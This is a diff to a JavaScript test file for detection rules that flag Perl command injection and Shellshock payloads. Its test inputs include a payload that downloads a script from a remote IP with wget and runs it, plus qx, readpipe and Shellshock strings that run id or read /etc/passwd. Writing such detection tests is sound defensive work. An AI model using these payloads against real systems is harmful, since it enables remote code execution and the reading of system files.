@@ -598,6 +598,20 @@ describe('Node.js code that starts a process, where a server evaluates input', (
   });
 });
 
+describe('Perl code that runs a command, where a server interpolates or evaluates input', () => {
+  it('reads code interpolated in a string, qx with its delimiter and readpipe', () => {
+    expect(idsOf(commandInjectionPack, '@{[system "wget -qO /tmp/p http://203.0.113.45/p.pl; perl /tmp/p"]}')).toContain(400128);
+    expect(idsOf(commandInjectionPack, '${\\ qx{id}}')).toContain(400128);
+    expect(idsOf(commandInjectionPack, 'qx{cat /etc/passwd}')).toContain(400128);
+    expect(idsOf(commandInjectionPack, 'readpipe("id")')).toContain(400128);
+  });
+
+  it('leaves a model name and an interpolation of plain data', () => {
+    expect(idsOf(commandInjectionPack, 'Infiniti QX (AWD)')).not.toContain(400128);
+    expect(idsOf(commandInjectionPack, 'Total: @{[ $count ]} items')).not.toContain(400128);
+  });
+});
+
 describe('Shellshock', () => {
   it('reads a function definition at a value start or inside one line, not in source code on several lines', () => {
     expect(idsOf(shellshockPack, '() { :; }; /bin/cat /etc/passwd')).toContain(920301);
